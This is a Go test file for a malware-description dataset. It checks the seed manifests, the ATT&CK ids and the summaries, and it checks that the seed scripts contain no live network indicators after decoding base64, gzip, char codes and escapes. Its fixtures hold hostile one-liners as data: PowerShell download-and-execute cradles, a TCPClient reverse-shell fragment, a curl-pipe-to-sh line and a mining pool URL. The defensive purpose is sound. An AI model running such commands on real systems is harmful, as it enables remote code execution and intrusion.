package seeds

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"io"
	"io/fs"
	"net/netip"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"

	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/learning/dataset"
)

// manifestHeader is the exact header every seed manifest must carry.
const manifestHeader = "file\tsha256\tlanguage\tlabel\tprovenance\tfamily\text\tsize\tcategory\ttechniques\tsummary"

const (
	minPerLanguage  = 40
	minMaliciousPct = 50
	maxMaliciousPct = 70
)

// manifests returns the language folders of the embedded tree that hold a
// manifest, sorted.
func manifests(t *testing.T) []string {
	t.Helper()
	m, err := fs.Glob(FS(), "*/"+ManifestName)
	if err != nil {
		t.Fatalf("glob manifests: %v", err)
	}
	if len(m) == 0 {
		t.Fatal("no */manifest.tsv embedded")
	}
	var dirs []string
	for _, p := range m {
		dirs = append(dirs, path.Dir(p))
	}
	slices.Sort(dirs)
	return dirs
}

func readEntries(t *testing.T, dir string) []dataset.Entry {
	t.Helper()
	f, err := FS().Open(dir + "/" + ManifestName)
	if err != nil {
		t.Fatalf("open manifest: %v", err)
	}
	defer f.Close()
	entries, err := dataset.ReadManifest(f)
	if err != nil {
		t.Fatalf("read manifest %s: %v", dir, err)
	}
	return entries
}

func TestEveryFolderHasManifest(t *testing.T) {
	ents, err := fs.ReadDir(FS(), ".")
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		if !e.IsDir() {
			continue
		}
		if _, err := fs.Stat(FS(), e.Name()+"/"+ManifestName); err != nil {
			t.Errorf("folder %s: got no %s, want one per language folder", e.Name(), ManifestName)
		}
		if l, err := lang.Parse(e.Name()); err != nil || l == lang.Unknown || l.String() != e.Name() {
			t.Errorf("folder %s: got a name that is not a report language name", e.Name())
		}
	}
}

func TestAllLanguagesPresent(t *testing.T) {
	have := map[string]bool{}
	for _, d := range manifests(t) {
		have[d] = true
	}
	var missing []string
	for _, l := range lang.All() {
		if !have[l.String()] {
			missing = append(missing, l.String())
		}
	}
	if len(missing) == 0 {
		return
	}
	if os.Getenv("CI") != "" {
		t.Fatalf("seed languages missing: %v", missing)
	}
	t.Skipf("seed languages not written yet: %v (fails under CI)", missing)
}

func TestManifests(t *testing.T) {
	seenHash := map[string]string{}
	for _, dir := range manifests(t) {
		t.Run(dir, func(t *testing.T) {
			raw, err := fs.ReadFile(FS(), dir+"/"+ManifestName)
			if err != nil {
				t.Fatal(err)
			}
			header, _, _ := strings.Cut(string(raw), "\n")
			if got := strings.TrimRight(header, "\r"); got != manifestHeader {
				t.Fatalf("header: got %q, want %q", got, manifestHeader)
			}
			for i, line := range strings.Split(strings.TrimRight(string(raw), "\n"), "\n") {
				if n := strings.Count(line, "\t"); n != 10 {
					t.Errorf("line %d: got %d tabs, want 10", i+1, n)
				}
			}
			entries := readEntries(t, dir)
			listed := map[string]bool{}
			mal := 0
			for _, e := range entries {
				if listed[e.File] {
					t.Errorf("%s: listed twice", e.File)
				}
				listed[e.File] = true
				if e.Label == dataset.Malicious {
					mal++
				}
				checkEntry(t, dir, e)
				if prev, ok := seenHash[e.SHA256]; ok {
					t.Errorf("%s: same sha256 as %s", e.File, prev)
				}
				seenHash[e.SHA256] = dir + "/" + e.File
			}
			if len(entries) < minPerLanguage {
				t.Errorf("seeds: got %d, want >= %d", len(entries), minPerLanguage)
			}
			if n := len(entries); n > 0 && (100*mal < minMaliciousPct*n || 100*mal > maxMaliciousPct*n) {
				t.Errorf("malicious share: got %d/%d, want %d-%d%%", mal, n, minMaliciousPct, maxMaliciousPct)
			}
			err = fs.WalkDir(FS(), dir, func(p string, d fs.DirEntry, err error) error {
				if err != nil {
					return err
				}
				if d.IsDir() {
					if p != dir {
						t.Errorf("%s: got a sub-folder, want a flat language folder", p)
					}
					return nil
				}
				rel := strings.TrimPrefix(p, dir+"/")
				if rel != ManifestName && !listed[rel] {
					t.Errorf("%s: got a file the manifest does not list", p)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
		})
	}
}

func checkEntry(t *testing.T, dir string, e dataset.Entry) {
	t.Helper()
	b, err := fs.ReadFile(FS(), dir+"/"+e.File)
	if err != nil {
		t.Errorf("%s: %v", e.File, err)
		return
	}
	sum := sha256.Sum256(b)
	if got := hex.EncodeToString(sum[:]); got != e.SHA256 {
		t.Errorf("%s: sha256 got %s, want %s (manifest)", e.File, got, e.SHA256)
	}
	if got := strconv.Itoa(len(b)); got != e.Extra["size"] {
		t.Errorf("%s: size got %s, want %s (manifest)", e.File, got, e.Extra["size"])
	}
	if e.Language != dir {
		t.Errorf("%s: language got %q, want the folder name %q", e.File, e.Language, dir)
	}
	if e.Label != dataset.Malicious && e.Label != dataset.Benign {
		t.Errorf("%s: label got %q, want malicious or benign", e.File, e.Label)
	}
	if e.Provenance != "seed" {
		t.Errorf("%s: provenance got %q, want seed", e.File, e.Provenance)
	}
	if ext := strings.TrimPrefix(path.Ext(e.File), "."); ext == "" || ext != e.Ext {
		t.Errorf("%s: ext column got %q, want the file extension %q", e.File, e.Ext, ext)
	}
	if strings.Contains(e.File, "/") {
		t.Errorf("%s: got a nested path, want a file directly in %s/", e.File, dir)
	}
	if e.Family == "" || e.Extra["category"] == "" {
		t.Errorf("%s: family %q, category %q: want both set", e.File, e.Family, e.Extra["category"])
	}
	if len(b) == 0 {
		t.Errorf("%s: empty script", e.File)
	}
}

func TestLoad(t *testing.T) {
	seeds, err := Load()
	if err != nil {
		t.Fatalf("Load: %v", err)
	}
	want := 0
	for _, dir := range manifests(t) {
		want += len(readEntries(t, dir))
	}
	if len(seeds) != want {
		t.Fatalf("Load: got %d seeds, want %d manifest rows", len(seeds), want)
	}
	perLang := map[lang.Language]int{}
	for _, s := range seeds {
		perLang[s.Language]++
		if s.Language == lang.Unknown {
			t.Errorf("%s: language Unknown", s.Path)
		}
		if got := path.Dir(s.Path); got != s.Language.String() {
			t.Errorf("%s: folder %q, want %q", s.Path, got, s.Language)
		}
		b, err := Read(s)
		if err != nil {
			t.Errorf("Read(%s): %v", s.Path, err)
			continue
		}
		sum := sha256.Sum256(b)
		if got := hex.EncodeToString(sum[:]); got != s.SHA256 {
			t.Errorf("Read(%s): sha256 got %s, want %s", s.Path, got, s.SHA256)
		}
		if s.Malicious != (s.Label() == dataset.Malicious) {
			t.Errorf("%s: Label %q disagrees with Malicious %v", s.Path, s.Label(), s.Malicious)
		}
		if s.Malicious && len(s.Techniques) == 0 {
			t.Errorf("%s: malicious seed without ATT&CK techniques", s.Path)
		}
	}
	for l, n := range perLang {
		if n < minPerLanguage {
			t.Errorf("%v: got %d seeds, want >= %d", l, n, minPerLanguage)
		}
	}
	if _, err := Read(Seed{Path: "powershell/does-not-exist.ps1"}); err == nil {
		t.Error("Read(missing): got nil error, want an error")
	}
}

func TestLoadManifestErrors(t *testing.T) {
	const hdr = manifestHeader + "\n"
	good := "a.ps1\t" + strings.Repeat("ab", 32) + "\tpowershell\tmalicious\tseed\tf\tps1\t1\tdownloader\tT1105, T1059.001\tS.\n"
	tests := []struct {
		name    string
		body    string
		wantErr error
		wantN   int
	}{
		{name: "good", body: hdr + good, wantN: 1},
		{name: "unknown language", body: hdr + strings.Replace(good, "powershell", "cobol", 1), wantErr: ErrInvalid},
		{name: "language unknown", body: hdr + strings.Replace(good, "powershell", "unknown", 1), wantErr: ErrInvalid},
		{name: "missing label", body: hdr + strings.Replace(good, "malicious", "", 1), wantErr: ErrInvalid},
		{name: "bad label", body: hdr + strings.Replace(good, "malicious", "evil", 1), wantErr: dataset.ErrMalformed},
		{name: "short sha", body: hdr + strings.Replace(good, strings.Repeat("ab", 32), "abcd", 1), wantErr: ErrInvalid},
		{name: "escaping path", body: hdr + strings.Replace(good, "a.ps1", "../a.ps1", 1), wantErr: dataset.ErrMalformed},
		{name: "no header", body: "", wantErr: dataset.ErrMalformed},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fsys := fstest.MapFS{"powershell/manifest.tsv": {Data: []byte(tc.body)}}
			got, err := loadManifest(fsys, "powershell/manifest.tsv")
			if !errors.Is(err, tc.wantErr) {
				t.Fatalf("err: got %v, want %v", err, tc.wantErr)
			}
			if len(got) != tc.wantN {
				t.Fatalf("seeds: got %d, want %d", len(got), tc.wantN)
			}
			if tc.wantN == 1 {
				s := got[0]
				if s.Path != "powershell/a.ps1" || !s.Malicious || s.Language != lang.PowerShell ||
					!slices.Equal(s.Techniques, []string{"T1105", "T1059.001"}) || s.Category != "downloader" || s.Summary != "S." {
					t.Errorf("seed: got %+v, want the row's fields", s)
				}
			}
		})
	}
}

// attackTechniques reads the active technique ids from the shared ATT&CK
// table, found by walking up from the working directory.
func attackTechniques(t *testing.T) map[string]bool {
	t.Helper()
	p := os.Getenv("AUTOMALDESC_ATTACK")
	if p == "" {
		wd, err := os.Getwd()
		if err != nil {
			t.Fatal(err)
		}
		for dir := wd; ; dir = filepath.Dir(dir) {
			c := filepath.Join(dir, "shared", "attack", "enterprise-techniques.tsv")
			if _, err := os.Stat(c); err == nil {
				p = c
				break
			}
			if filepath.Dir(dir) == dir {
				break
			}
		}
	}
	if p == "" {
		if os.Getenv("CI") != "" {
			t.Fatal("shared/attack/enterprise-techniques.tsv not found")
		}
		t.Skip("shared/attack/enterprise-techniques.tsv not found (fails under CI)")
	}
	f, err := os.Open(p)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Scan()
	cols := strings.Split(sc.Text(), "\t")
	idCol, statusCol := slices.Index(cols, "id"), slices.Index(cols, "status")
	if idCol < 0 || statusCol < 0 {
		t.Fatalf("%s: header %q lacks id/status", p, sc.Text())
	}
	active := map[string]bool{}
	for sc.Scan() {
		f := strings.Split(sc.Text(), "\t")
		if len(f) > max(idCol, statusCol) && f[statusCol] == "active" {
			active[f[idCol]] = true
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	if len(active) < 100 {
		t.Fatalf("%s: got %d active techniques, want a full table", p, len(active))
	}
	return active
}

func TestTechniquesValid(t *testing.T) {
	active := attackTechniques(t)
	seeds, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	idRE := regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)
	for _, s := range seeds {
		seen := map[string]bool{}
		for _, id := range s.Techniques {
			if !idRE.MatchString(id) {
				t.Errorf("%s: technique %q: got a malformed id", s.Path, id)
				continue
			}
			if !active[id] {
				t.Errorf("%s: technique %s: got an id that is not an active ATT&CK technique", s.Path, id)
			}
			if seen[id] {
				t.Errorf("%s: technique %s listed twice", s.Path, id)
			}
			seen[id] = true
		}
	}
}

// sentences counts sentences: a boundary is '.', '!' or '?' followed by
// white space and an upper-case letter or digit, and the text must end
// with a terminator.
func sentences(s string) int {
	s = strings.TrimSpace(s)
	if s == "" {
		return 0
	}
	n := 1
	r := []rune(s)
	for i := 0; i+2 < len(r); i++ {
		if (r[i] == '.' || r[i] == '!' || r[i] == '?') && unicode.IsSpace(r[i+1]) {
			j := i + 1
			for j < len(r) && unicode.IsSpace(r[j]) {
				j++
			}
			if j < len(r) && (unicode.IsUpper(r[j]) || unicode.IsDigit(r[j])) {
				n++
			}
		}
	}
	last := strings.TrimRight(s, `)"'`)
	if !strings.HasSuffix(last, ".") && !strings.HasSuffix(last, "!") && !strings.HasSuffix(last, "?") {
		return -1
	}
	return n
}

func TestSentences(t *testing.T) {
	tests := []struct {
		in   string
		want int
	}{
		{"One. Two. Three.", 3},
		{"It runs iex (T1059.001). Then it sleeps. Malicious: yes.", 3},
		{"Fetches hxxp://203.0.113[.]5/a.ps1. It runs it.", 2},
		{"no terminator", -1},
		{"", 0},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := sentences(tc.in); got != tc.want {
				t.Errorf("sentences(%q): got %d, want %d", tc.in, got, tc.want)
			}
		})
	}
}

func TestSummaries(t *testing.T) {
	seeds, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range seeds {
		if n := sentences(s.Summary); n < 3 || n > 5 {
			t.Errorf("%s: summary has %d sentences, want 3-5: %q", s.Path, n, s.Summary)
		}
		low := strings.ToLower(s.Summary)
		if strings.Contains(low, "http://") || strings.Contains(low, "https://") {
			t.Errorf("%s: summary has a live URL scheme, want it defanged (hxxp://, [.])", s.Path)
		}
		for _, ip := range findIPv4(s.Summary) {
			if a, err := netip.ParseAddr(ip); err == nil && !a.IsLoopback() && !a.IsPrivate() && !a.IsUnspecified() {
				t.Errorf("%s: summary has IPv4 %s, want it defanged (a.b.c[.]d)", s.Path, ip)
			}
		}
	}
}

var (
	ipv4RE   = regexp.MustCompile(`\d{1,3}(?:\.\d{1,3}){3}`)
	urlRE    = regexp.MustCompile(`(?i)\b(https?|hxxps?|ftps?|wss?|tcp|udp|stratum\+(?:tcp|ssl|tls))://([^\s/'"` + "`" + `<>()\[\]{}\\|;,?#]+)`)
	uncRE    = regexp.MustCompile(`\\\\+([A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+)\\`)
	b64RE    = regexp.MustCompile(`[A-Za-z0-9+/]{24,}={0,2}`)
	codesRE  = regexp.MustCompile(`(?:\d{1,3}\s*,\s*){15,}\d{1,3}`)
	hexRE    = regexp.MustCompile(`(?:[0-9a-fA-F]{2}){16,}`)
	chrRE    = regexp.MustCompile(`(?i)\bChrW?\(\s*(\d{1,5})\s*(?:([+-])\s*(\d{1,5})\s*)?\)`)
	escRE    = regexp.MustCompile(`\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}`)
	domainRE = regexp.MustCompile(`^(?i)[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z][a-z0-9-]*$`)

	testNets = []netip.Prefix{
		netip.MustParsePrefix("192.0.2.0/24"),
		netip.MustParsePrefix("198.51.100.0/24"),
		netip.MustParsePrefix("203.0.113.0/24"),
	}
	// reservedSuffixes are the TLDs of RFC 2606/6761 that never resolve on
	// the internet.
	reservedSuffixes = []string{".invalid", ".example", ".test", ".localhost"}
	// namespaceHosts are URI prefixes used as identifiers (CDO configuration
	// field names), never contacted.
	namespaceHosts = map[string]bool{"schemas.microsoft.com": true}
)

// findIPv4 returns dotted quads that are not part of a longer dotted number
// (version strings such as 10.0.19045.1 or 1.2.3.4.5).
func findIPv4(s string) []string {
	var out []string
	for _, loc := range ipv4RE.FindAllStringIndex(s, -1) {
		i, j := loc[0], loc[1]
		if i > 0 && (s[i-1] == '.' || s[i-1] >= '0' && s[i-1] <= '9') {
			continue
		}
		if j < len(s) && (s[j] >= '0' && s[j] <= '9' || s[j] == '.' && j+1 < len(s) && s[j+1] >= '0' && s[j+1] <= '9') {
			continue
		}
		out = append(out, s[i:j])
	}
	return out
}

func ipAllowed(s string) (ok, isIP bool) {
	a, err := netip.ParseAddr(s)
	if err != nil {
		return false, false
	}
	if a.IsLoopback() || a.IsPrivate() || a.IsUnspecified() {
		return true, true
	}
	for _, p := range testNets {
		if p.Contains(a) {
			return true, true
		}
	}
	return false, true
}

func hostAllowed(host string) bool {
	h := strings.ToLower(strings.TrimSuffix(host, "."))
	if h == "localhost" || namespaceHosts[h] {
		return true
	}
	for _, s := range reservedSuffixes {
		if strings.HasSuffix(h, s) {
			return true
		}
	}
	return false
}

// views returns the texts the inertness check scans for one script: the raw
// text, its reverse, and bounded decodings of base64 (plain, UTF-16LE,
// gzip, zlib), character-code lists and \x/\u escapes, nested to depth 3.
func views(b []byte) []string {
	var out []string
	seen := map[string]bool{}
	budget := 8 << 20
	var walk func(s string, depth int)
	walk = func(s string, depth int) {
		if seen[s] || budget <= 0 {
			return
		}
		seen[s] = true
		budget -= len(s)
		out = append(out, s)
		if depth >= 3 {
			return
		}
		for _, m := range b64RE.FindAllString(s, -1) {
			if d, ok := decodeB64(m); ok {
				walk(d, depth+1)
			}
		}
		for _, m := range codesRE.FindAllString(s, -1) {
			if d, ok := decodeCodes(m); ok {
				walk(d, depth+1)
			}
		}
		for _, m := range hexRE.FindAllString(s, -1) {
			if d, err := hex.DecodeString(m); err == nil && printable(string(d)) {
				walk(string(d), depth+1)
			}
		}
		if escRE.MatchString(s) {
			walk(unescape(s), depth+1)
		}
		if d := chrChain(s); d != "" {
			walk(d, depth+1)
		}
	}
	walk(toText(b), 0)
	r := []rune(out[0])
	slices.Reverse(r)
	out = append(out, string(r))
	return out
}

// toText decodes UTF-16 (by BOM or by zero-byte pattern) and UTF-8.
func toText(b []byte) string {
	switch {
	case bytes.HasPrefix(b, []byte{0xff, 0xfe}):
		return utf16le(b[2:])
	case bytes.HasPrefix(b, []byte{0xef, 0xbb, 0xbf}):
		return string(b[3:])
	}
	if len(b) >= 8 {
		zeros := 0
		for i := 1; i < len(b); i += 2 {
			if b[i] == 0 {
				zeros++
			}
		}
		if zeros*10 >= len(b)/2*9 {
			return utf16le(b)
		}
	}
	return string(b)
}

func utf16le(b []byte) string {
	u := make([]uint16, len(b)/2)
	for i := range u {
		u[i] = uint16(b[2*i]) | uint16(b[2*i+1])<<8
	}
	return string(utf16.Decode(u))
}

func decodeB64(m string) (string, bool) {
	m = strings.TrimRight(m, "=")
	m = m[:len(m)-len(m)%4]
	b, err := base64.RawStdEncoding.DecodeString(m)
	if err != nil || len(b) < 8 {
		return "", false
	}
	const limit = 1 << 20
	switch {
	case b[0] == 0x1f && b[1] == 0x8b:
		zr, err := gzip.NewReader(bytes.NewReader(b))
		if err != nil {
			return "", false
		}
		d, _ := io.ReadAll(io.LimitReader(zr, limit))
		b = d
	case b[0] == 0x78 && (b[1] == 0x01 || b[1] == 0x5e || b[1] == 0x9c || b[1] == 0xda):
		zr, err := zlib.NewReader(bytes.NewReader(b))
		if err != nil {
			return "", false
		}
		d, _ := io.ReadAll(io.LimitReader(zr, limit))
		b = d
	}
	s := toText(b)
	return s, printable(s)
}

func printable(s string) bool {
	if s == "" || !utf8.ValidString(s) {
		return false
	}
	bad := 0
	for _, r := range s {
		if !unicode.IsPrint(r) && !unicode.IsSpace(r) {
			bad++
		}
	}
	return bad*20 < len(s)
}

func decodeCodes(m string) (string, bool) {
	var sb strings.Builder
	for _, f := range strings.Split(m, ",") {
		n, err := strconv.Atoi(strings.TrimSpace(f))
		if err != nil || n > 255 {
			return "", false
		}
		sb.WriteRune(rune(n))
	}
	s := sb.String()
	return s, printable(s)
}

// chrChain concatenates the characters of every VBScript Chr(n), ChrW(n),
// Chr(a+b) and Chr(a-b) call in order.
func chrChain(s string) string {
	ms := chrRE.FindAllStringSubmatch(s, -1)
	if len(ms) < 8 {
		return ""
	}
	var sb strings.Builder
	for _, m := range ms {
		n, _ := strconv.Atoi(m[1])
		if m[2] != "" {
			k, _ := strconv.Atoi(m[3])
			if m[2] == "+" {
				n += k
			} else {
				n -= k
			}
		}
		if n > 0 && n <= unicode.MaxRune {
			sb.WriteRune(rune(n))
		}
	}
	return sb.String()
}

func unescape(s string) string {
	return escRE.ReplaceAllStringFunc(s, func(m string) string {
		n, err := strconv.ParseUint(m[2:], 16, 32)
		if err != nil {
			return m
		}
		return string(rune(n))
	})
}

// liveIndicators returns the routable IPv4 literals and public host names
// found in any view of b; an inert fixture has none.
func liveIndicators(b []byte) []string {
	var out []string
	for _, v := range views(b) {
		for _, ip := range findIPv4(v) {
			if ok, isIP := ipAllowed(ip); isIP && !ok {
				out = append(out, "ip "+ip)
			}
		}
		for _, m := range urlRE.FindAllStringSubmatch(v, -1) {
			host := m[2]
			if i := strings.LastIndex(host, "@"); i >= 0 {
				host = host[i+1:]
			}
			if h, _, ok := strings.Cut(host, ":"); ok {
				host = h
			}
			if _, isIP := ipAllowed(host); isIP || !domainRE.MatchString(host) {
				continue
			}
			if !hostAllowed(host) {
				out = append(out, "url host "+host)
			}
		}
		for _, m := range uncRE.FindAllStringSubmatch(v, -1) {
			if _, isIP := ipAllowed(m[1]); isIP || !domainRE.MatchString(m[1]) {
				continue
			}
			if !hostAllowed(m[1]) {
				out = append(out, "unc host "+m[1])
			}
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

func TestInert(t *testing.T) {
	seeds, err := Load()
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range seeds {
		b, err := Read(s)
		if err != nil {
			t.Fatal(err)
		}
		if got := liveIndicators(b); len(got) > 0 {
			t.Errorf("%s: got live indicators %q, want only TEST-NET/loopback/private IPs and .invalid/.example/.test hosts", s.Path, got)
		}
	}
}

func TestLiveIndicators(t *testing.T) {
	enc := func(s string) string { return base64.StdEncoding.EncodeToString(utf16Bytes(s)) }
	tests := []struct {
		name string
		in   string
		want []string
	}{
		{"inert cradle", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.45/a.ps1')", nil},
		{"inert domain and unc", `iwr https://cdn-update.invalid/x -OutFile \\nas01.corp.example\share\x`, nil},
		{"public ip", "$c = New-Object Net.Sockets.TCPClient('45.33.32.156', 4444)", []string{"ip 45.33.32.156"}},
		{"public domain", "curl -fsSL https://pastebin.com/raw/abc | sh", []string{"url host pastebin.com"}},
		{"public unc", `copy \\files.contoso.com\drop\a.exe .`, []string{"unc host files.contoso.com"}},
		{"public ip in -enc", "powershell -enc " + enc("iex(iwr http://45.33.32.156/a)"), []string{"ip 45.33.32.156"}},
		{"userinfo and port", "stratum+tcp://user@pool.minexmr.com:4444", []string{"url host pool.minexmr.com"}},
		{"reversed url", `StrReverse("moc.lanretxe//:ptth")`, []string{"url host external.com"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := liveIndicators([]byte(tc.in)); !slices.Equal(got, tc.want) {
				t.Errorf("liveIndicators(%q): got %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func TestViewsDecode(t *testing.T) {
	u16 := base64.StdEncoding.EncodeToString(utf16Bytes("iwr http://203.0.113.7/a"))
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte("(New-Object Net.WebClient).DownloadString('http://evil.example.com/x')"))
	zw.Close()
	tests := []struct {
		name string
		in   string
		want string
	}{
		{"utf16le base64", "powershell -enc " + u16, "http://203.0.113.7/a"},
		{"gzip base64", "FromBase64String('" + base64.StdEncoding.EncodeToString(gz.Bytes()) + "')", "evil.example.com"},
		{"char codes", "[char[]](104,116,116,112,58,47,47,49,57,56,46,53,49,46,49,48,48,46,50) -join ''", "http://198.51.100.2"},
		{"hex escapes", `"\x68\x74\x74\x70\x3a\x2f\x2f\x61\x2e\x69\x6e\x76\x61\x6c\x69\x64"`, "http://a.invalid"},
		{"reversed", `StrReverse("dilavni.c//:ptth")`, "http://c.invalid"},
		{"hex string", "Buffer.from('687474703a2f2f312e322e332e342f78','hex')", "http://1.2.3.4/x"},
		{"chr chain", "Chr(104)&Chr(120-4)&ChrW(100+16)&Chr(112)&Chr(58)&Chr(47)&Chr(47)&Chr(97)&Chr(46)&Chr(105)", "http://a.i"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			vs := views([]byte(tc.in))
			for _, v := range vs {
				if strings.Contains(v, tc.want) {
					return
				}
			}
			t.Errorf("views(%q): got %q, want a view containing %q", tc.in, vs, tc.want)
		})
	}
}

func TestInertCheckers(t *testing.T) {
	tests := []struct {
		host string
		want bool
	}{
		{"cdn-update.invalid", true},
		{"files.example", true},
		{"LOCALHOST", true},
		{"evil.example.com", false},
		{"pastebin.com", false},
	}
	for _, tc := range tests {
		t.Run(tc.host, func(t *testing.T) {
			if got := hostAllowed(tc.host); got != tc.want {
				t.Errorf("hostAllowed(%q): got %v, want %v", tc.host, got, tc.want)
			}
		})
	}
	ips := []struct {
		ip   string
		want bool
	}{
		{"192.0.2.1", true}, {"198.51.100.200", true}, {"203.0.113.9", true},
		{"127.0.0.1", true}, {"10.1.2.3", true}, {"8.8.8.8", false}, {"185.1.2.3", false},
	}
	for _, tc := range ips {
		t.Run(tc.ip, func(t *testing.T) {
			if got, _ := ipAllowed(tc.ip); got != tc.want {
				t.Errorf("ipAllowed(%q): got %v, want %v", tc.ip, got, tc.want)
			}
		})
	}
	finds := []struct {
		in   string
		want []string
	}{
		{"version 10.0.19045.1 and 1.2.3.4.5 and 1234.1.2.3", nil},
		{"connect 8.8.8.8.", []string{"8.8.8.8"}},
		{"1.1.1.1,2.2.2.2", []string{"1.1.1.1", "2.2.2.2"}},
		{"defanged 203.0.113[.]5", nil},
	}
	for _, tc := range finds {
		t.Run(tc.in, func(t *testing.T) {
			if got := findIPv4(tc.in); !slices.Equal(got, tc.want) {
				t.Errorf("findIPv4(%q): got %q, want %q", tc.in, got, tc.want)
			}
		})
	}
}

func utf16Bytes(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func BenchmarkLoad(b *testing.B) {
	for b.Loop() {
		if _, err := Load(); err != nil {
			b.Fatal(err)
		}
	}
}
